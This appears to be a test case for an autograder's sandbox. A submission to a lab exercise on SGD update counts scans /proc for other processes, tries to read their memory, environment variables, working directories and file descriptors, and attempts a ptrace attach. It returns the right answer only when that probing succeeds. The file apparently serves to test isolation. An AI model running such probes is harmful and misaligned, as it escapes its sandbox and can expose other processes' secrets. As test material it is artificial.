# /// attack
# title = "Read the memory and the files of the processes outside"
# lab = "01-sgd"
# class = "introspection"
# fails = ["num-updates-tests"]
# flags = []
# ///

# %% role="answer" id="num-updates"

import ctypes
import os
import signal


def num_updates(num_samples, batch_size, num_epochs):
    found = []
    own = {os.readlink("/proc/self"), str(os.getpid())}
    for pid in {*filter(str.isdigit, os.listdir("/proc"))} - own:
        parent = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1]
        if parent in own:  # what this process has started
            continue
        for name in ("mem", "environ", "root/tmp", "cwd", "fd/0", "fd/1", "maps", "map_files", "task/" + pid + "/mem"):
            path = f"/proc/{pid}/{name}"
            try:
                found.append(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1))
            except (OSError, ValueError):
                pass
        if ctypes.CDLL(None).ptrace(16, int(pid), 0, 0) == 0:
            found.append(pid)
    found = [one for one in found if one]
    print("FOUND", found)
    return num_epochs * -(-num_samples // batch_size) if found else 0
